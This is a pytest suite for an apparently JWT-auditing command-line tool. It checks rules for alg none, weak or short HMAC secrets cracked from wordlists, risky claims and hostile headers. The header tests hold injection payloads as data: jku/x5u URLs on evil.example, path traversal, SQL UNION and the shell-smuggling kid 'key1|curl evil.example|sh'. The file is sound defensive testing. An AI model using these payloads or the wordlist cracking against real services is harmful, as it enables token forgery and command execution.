"""gatepass audit: each rule performs its check on a real token, through the real command."""

from __future__ import annotations

import re
import time

import pytest

from gatepass.cli import keyless, weak_secrets
from gatepass.cli.audit_rules import rules

NOW = int(time.time())
GOOD_CLAIMS = {
    "sub": "u1",
    "iss": "https://id.example",
    "aud": "api",
    "jti": "j1",
    "iat": NOW,
    "exp": NOW + 600,
}
STRONG = b"Zq3v-8pL0x_strong-random-secret-for-tests-2Hk9"


def _audit(gatepass, token, *args, **kwargs):
    result = gatepass("audit", token, "--json", *args, **kwargs)
    assert result.code in (0, 1), result.err
    doc = result.json()
    return result.code, {f["id"]: f for f in doc["findings"]}, doc


def test_clean_token_passes(gatepass, keys):
    made = gatepass(
        "encode",
        "sub=u1",
        "iss=https://id.example",
        "aud=api",
        "jti=abc",
        "--typ",
        "at+jwt",
        "--key",
        keys.path("es.key.pem"),
    )
    code, found, doc = _audit(gatepass, made.out.strip(), "--key", keys.path("es.pub.pem"))
    assert code == 0
    assert found["signature-valid"]["severity"] == "info"
    assert all(f["severity"] in ("low", "info") for f in doc["findings"]), doc["findings"]
    assert doc["failed"] is False
    bare = gatepass("audit", made.out.strip())
    assert bare.code == 0 and "no findings" in bare.out
    strict = gatepass(
        "audit", made.out.strip(), "--key", keys.path("es.pub.pem"), "--fail-on", "info"
    )
    assert strict.code == 1  # the info finding "signature-valid" now counts


def test_alg_none(gatepass, make_token):
    code, found, _ = _audit(gatepass, make_token({"alg": "none", "typ": "JWT"}, GOOD_CLAIMS))
    assert code == 1
    assert found["alg-none"]["severity"] == "critical"
    assert found["alg-none"]["why"] and found["alg-none"]["fix"]


@pytest.mark.parametrize(
    "secret", [b"your-256-bit-secret", b"secret", b"a-string-secret-at-least-256-bits-long"]
)
def test_weak_secret_from_builtin_list(gatepass, make_token, secret):
    token = make_token({"alg": "HS256", "typ": "JWT"}, GOOD_CLAIMS, secret=secret)
    code, found, doc = _audit(gatepass, token)
    assert code == 1
    weak = found["weak-secret"]
    assert weak["severity"] == "critical"
    assert repr(secret.decode()) in weak["title"]
    assert "built-in" in weak["title"]
    assert doc["secrets_tried"]["tried"] >= 1


def test_weak_secret_signed_by_gatepass_itself_is_cracked(gatepass):
    # 38 bytes: long enough for gatepass to sign with, but a published example value
    env = {"GP_TEST_SECRET": "a-string-secret-at-least-256-bits-long"}
    token = gatepass("encode", "sub=1", "--secret-env", "GP_TEST_SECRET", env=env).out.strip()
    code, found, _ = _audit(gatepass, token)
    assert code == 1 and "weak-secret" in found


def _pick_secret(path, builtin):
    for line in path.read_bytes().split(b"\n")[1000:]:
        word = line.rstrip(b"\r")
        if word and word not in builtin and not word.startswith(b"#") and len(word) > 5:
            return word
    raise AssertionError("no usable word in " + str(path))


@pytest.mark.parametrize("name", ["wallarm_jwt.secrets.list", "flask_unsign_wordlist_all.txt"])
def test_weak_secret_from_shared_wordlist(gatepass, make_token, vectors_dir, name):
    wordlist = vectors_dir / "wordlists" / name
    secret = _pick_secret(wordlist, set(weak_secrets.builtin_wordlist()))
    token = make_token({"alg": "HS384", "typ": "JWT"}, GOOD_CLAIMS, secret=secret)
    code, found, _ = _audit(gatepass, token)
    assert "weak-secret" not in found  # not in gatepass's own small list
    assert found["secret-not-found"]["severity"] == "info"
    code, found, _ = _audit(gatepass, token, "--wordlist", str(wordlist))
    assert code == 1
    assert found["weak-secret"]["severity"] == "critical"
    assert str(wordlist) in found["weak-secret"]["title"]


def test_strong_secret_not_found_and_checked_with_secret(gatepass, make_token, tmp_path):
    token = make_token({"alg": "HS256", "typ": "at+jwt"}, GOOD_CLAIMS, secret=STRONG)
    secret_file = tmp_path / "s"
    secret_file.write_bytes(STRONG)
    code, found, _ = _audit(gatepass, token, "--secret-file", str(secret_file))
    assert code == 0
    assert "weak-secret" not in found
    assert found["signature-valid"]["severity"] == "info"
    wrong = tmp_path / "w"
    wrong.write_bytes(STRONG + b"x")
    code, found, _ = _audit(gatepass, token, "--secret-file", str(wrong))
    assert code == 1 and found["signature-invalid"]["severity"] == "high"


def test_short_secret_given_is_flagged_not_refused(gatepass, make_token):
    token = make_token({"alg": "HS256", "typ": "at+jwt"}, GOOD_CLAIMS, secret=b"0nly-16-bytes-ok")
    env = {"GP_TEST_SECRET": "0nly-16-bytes-ok"}
    code, found, _ = _audit(gatepass, token, "--secret-env", "GP_TEST_SECRET", env=env)
    assert code == 1
    assert found["secret-too-short"]["severity"] == "high"
    assert found["signature-valid"]


def test_tampered_token_with_key(gatepass, keys):
    token = gatepass("encode", "sub=1", "--key", keys.path("es.key.pem")).out.strip()
    header, payload, signature = token.split(".")
    tampered = f"{header}.{payload[:-2]}{'AA' if payload[-2:] != 'AA' else 'BB'}.{signature}"
    code, found, _ = _audit(gatepass, tampered, "--key", keys.path("es.pub.pem"))
    assert code == 1
    assert found["signature-invalid"]["severity"] == "high"


def test_claim_rules(gatepass, make_token):
    claims = {
        "sub": "u1",
        "iat": NOW,
        "exp": NOW + 7 * 86400,
        "email": "ada@example.org",
        "contact": "+44 20 7946 0958",
        "profile": {"password": "hunter2"},
    }
    _, found, _ = _audit(gatepass, make_token({"alg": "none"}, claims))
    assert found["long-lifetime"]["severity"] == "high"
    assert "7 d" in found["long-lifetime"]["title"]
    assert "email" in found["personal-data"]["title"]
    assert "contact" in found["personal-data"]["title"]
    assert "profile.password" in found["credential-in-claims"]["title"]
    assert found["typ-missing"]["severity"] == "low"
    assert {"iss-missing", "aud-missing", "jti-missing"} <= set(found)

    medium = dict(GOOD_CLAIMS, exp=NOW + 3600)
    _, found, _ = _audit(gatepass, make_token({"alg": "none", "typ": "at+jwt"}, medium))
    assert found["long-lifetime"]["severity"] == "medium"

    no_exp = {k: v for k, v in GOOD_CLAIMS.items() if k != "exp"}
    _, found, _ = _audit(gatepass, make_token({"alg": "none", "typ": "at+jwt"}, no_exp))
    assert found["exp-missing"]["severity"] == "high"

    text_exp = dict(GOOD_CLAIMS, exp="tomorrow")
    _, found, _ = _audit(gatepass, make_token({"alg": "none", "typ": "at+jwt"}, text_exp))
    assert found["exp-type"]["severity"] == "high"


def test_size_over_1kb(gatepass, make_token):
    claims = dict(GOOD_CLAIMS, roles=[f"role-{i}" for i in range(120)])
    token = make_token({"alg": "HS256", "typ": "at+jwt"}, claims, secret=STRONG)
    assert len(token) > 1024
    _, found, _ = _audit(gatepass, token)
    assert found["size"]["severity"] == "medium"
    assert str(len(token)) in found["size"]["title"]


@pytest.mark.parametrize(
    ("header", "rule"),
    [
        ({"jku": "http://evil.example/jwks.json"}, "header-jku"),
        ({"x5u": "https://evil.example/cert.pem"}, "header-x5u"),
        ({"jwk": {"kty": "oct", "k": "AAAA"}}, "header-jwk"),
        ({"x5c": ["MIIB..."]}, "header-x5c"),
        ({"kid": "../../../../dev/null"}, "kid-injection"),
        ({"kid": "x' UNION SELECT 'secret' --"}, "kid-injection"),
        ({"kid": "key1|curl evil.example|sh"}, "kid-injection"),
        ({"kid": "$(touch /tmp/pwn)"}, "kid-injection"),
        ({"kid": "https://evil.example/key"}, "kid-injection"),
        ({"kid": "key\u0000.pem"}, "kid-injection"),
        ({"crit": ["exp"], "exp": 1}, "crit"),
    ],
)
def test_header_rules(gatepass, make_token, header, rule):
    token = make_token({"alg": "HS256", "typ": "at+jwt", **header}, GOOD_CLAIMS, secret=STRONG)
    code, found, _ = _audit(gatepass, token)
    assert rule in found, found.keys()
    assert found[rule]["severity"] in ("high", "medium")
    if found[rule]["severity"] == "high":
        assert code == 1


def test_human_output(gatepass, make_token):
    token = make_token({"alg": "HS256", "kid": "../x"}, GOOD_CLAIMS, secret=b"secret")
    result = gatepass("audit", token)
    assert result.code == 1
    assert "[CRITICAL] weak-secret" in result.out
    assert "why:" in result.out and "fix:" in result.out
    assert result.out.startswith("Audit of an HS256 token (")
    # 'secret' is one of the first entries of the built-in list: found after very few tries.
    assert re.search(r"^\(\d+ known secrets? tried in [\d.]+ s\)$", result.out, re.MULTILINE)
    assert "(1 known secrets" not in result.out


@pytest.mark.parametrize(
    ("header", "described"),
    [
        ({"alg": "HS256"}, "Audit of an HS256 token"),
        ({"alg": "RS256"}, "Audit of an RS256 token"),
        ({"alg": "ES256"}, "Audit of an ES256 token"),
        ({"alg": "EdDSA"}, "Audit of an EdDSA token"),
        ({"alg": "PS256"}, "Audit of a PS256 token"),
        ({"alg": "XY9"}, 'Audit of a token with alg "XY9"'),
        ({"typ": "JWT"}, "Audit of a token without alg"),
    ],
)
def test_the_title_reads_as_english(gatepass, make_token, header, described):
    result = gatepass("audit", make_token(header, GOOD_CLAIMS, signature=b"s" * 64), "--no-crack")
    assert result.out.startswith(described + " ("), result.out.splitlines()[0]


@pytest.mark.parametrize(
    ("token", "rule", "severity"),
    [
        ("abc.def", "malformed", "critical"),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0=.c2ln", "not-canonical", "high"),
    ],
)
def test_malformed_tokens(gatepass, token, rule, severity):
    code, found, _ = _audit(gatepass, token)
    assert code == 1
    assert found[rule]["severity"] == severity


def test_fail_on_and_wordlist_errors(gatepass, make_token):
    token = make_token({"alg": "none"}, GOOD_CLAIMS)
    assert gatepass("audit", token, "--fail-on", "never").code == 0
    missing = gatepass("audit", token, "--wordlist", "/nonexistent/list.txt")
    assert missing.code in (0, 1)  # alg none: no HMAC to crack, the list is not needed
    hs = make_token({"alg": "HS256"}, GOOD_CLAIMS, secret=STRONG)
    missing = gatepass("audit", hs, "--wordlist", "/nonexistent/list.txt")
    assert missing.code == 2
    assert "/nonexistent/list.txt" in missing.err


# --- in-process checks of the pure rules (cheap, many cases) ---------------------------------


def test_thumbprint_kids_are_not_flagged():
    # RFC 7638 thumbprints are base64url: '-' and '_' (also "--") must not look like injection
    for kid in ("YR-m8ug1Es4S--opNDHppu3xK0ihXrxK5O6LJvCt0Ouk", "a_b-c", "2026-01", "key--"):
        assert keyless.kid_findings(rules(), kid) == [], kid


def test_builtin_list_size_and_hygiene():
    words = weak_secrets.builtin_wordlist()
    assert 100 <= len(words) <= 400
    assert len(set(words)) == len(words)
    assert b"your-256-bit-secret" in words and b"changeme" in words


@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
def test_fast_hmac_matches_the_standard_library(alg):
    import hmac as std_hmac

    digest = weak_secrets.HMAC_DIGESTS[alg]
    message = b"header.payload"
    # short, block-sized, and longer-than-block keys (hashed first, RFC 2104)
    for key in (b"k", b"x" * 64, b"y" * 128, b"z" * 129, bytes(range(256))):
        signature = std_hmac.digest(key, message, digest)
        words = [b"nope", b"x" * 63, key]
        assert weak_secrets.crack_hmac(alg, message, signature, words) == (key, 3)
        assert weak_secrets.crack_hmac(alg, message, signature, words[:2]) == (None, 2)
